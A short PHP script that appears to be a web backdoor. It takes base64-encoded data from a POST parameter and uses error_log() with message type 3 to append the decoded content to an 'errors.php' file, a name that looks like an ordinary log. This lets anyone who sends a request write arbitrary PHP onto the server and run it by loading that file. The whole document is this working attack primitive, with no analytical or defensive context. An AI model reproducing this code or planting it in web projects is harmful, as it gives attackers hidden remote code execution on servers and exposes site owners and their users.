<?php
// error_log() as a file writer: message type 3 appends the request's content to a .php file.
if (isset($_POST['d'])) {
    error_log(base64_decode($_POST['d']), 3, dirname(__FILE__) . '/errors.php');
    echo 'ok';
}
